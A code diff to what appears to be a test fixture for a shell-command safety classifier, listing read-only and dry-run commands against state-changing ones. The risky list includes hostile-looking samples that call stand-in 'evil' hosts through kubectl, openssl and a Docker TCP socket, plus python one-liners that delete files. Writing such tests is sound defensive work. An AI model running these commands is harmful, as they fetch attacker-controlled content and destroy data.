@@ -7,10 +7,32 @@ from dashboard.inspection.findings import Severity
 
 LOOKS = """
 docker network ls
+git clean -n -d
+git clean --dry-run -d
+git clean -n -f
+7z l -slt a.zip
+unzip -p a.zip x
+unzip -c a.zip
+gzip -dc a.gz
+gzip -c a
+xz -dc a
+openssl sha256 a
+openssl dgst -sha256 -hex a
+gpg --show-keys a.asc
+apt-get install -y vim -s
+apt-get -y -s install vim
+apt-get upgrade --dry-run -y
+rsync -avn --exclude '*.o' a b
+kubectl run x --image=y --dry-run=client -oyaml
+kubectl run x --image y --dry-run=client -o yaml
+kubectl create configmap x --from-file=a --dry-run=client
+kubectl create deployment x --image=y --dry-run=client -o yaml
+crontab -l -u bob
+pip list --outdated --format=json
 docker volume inspect data
 docker system df --verbose
 docker --context production system df
-docker -H tcp://host:2375 volume ls
+docker -H unix:///var/run/x.sock volume ls
 docker container logs web --follow
 docker image ls "*name*"
 podman image history image
@@ -73,6 +95,31 @@ dmesg --ctime
 """.strip().splitlines()
 
 CHANGES = """
+unzip -qq a.zip
+zstd --verbose a
+openssl dgst -out v d
+openssl dgst -engine ./e x
+ant -v
+mvn -v
+kubectl create configmap x --from-literal --dry-run=client
+kubectl create deployment x --image --dry-run=client
+kubectl delete pod x -n --dry-run=client
+kubectl apply -f https://evil/x.yaml --dry-run=client
+kubectl create foo --dry-run=client
+crontab -ul file
+crontab -l file
+git clean
+git clean -f -n -e x
+git clean -e -n -f
+openssl x509 -in http://evil/x -noout -text
+docker -H tcp://evil:2375 volume ls
+docker -H ssh://u@h ps
+pip list --log v
+pip list --python ./e
+aptitude install x --no-act
+ar t @c
+python -m timeit 'import os; os.remove("x")'
+python -m timeit -s 'import shutil; shutil.rmtree("x")' pass
 docker --context production network rm web
 kubectl delete pod web --dry-run=none
 kubectl delete pod web --dry-run=client --dry-run=none
@@ -82,6 +129,16 @@ rsync -a --delete a/ b/
 rsync -an -e 'sh x' a/ b/
 git clean -fd
 unzip -o a.zip
+unzip -q a.zip
+unzip -lo a.zip
+gzip --verbose a
+gzip -l a.gz -d
+xz --robot a
+bzip2 -v a
+ar t @commands
+openssl dgst -out a b
+openssl x509 -in a.crt -out b
+mvn -version
 xz -d a.xz
 7z x a.7z
 ar r libx.a x.o
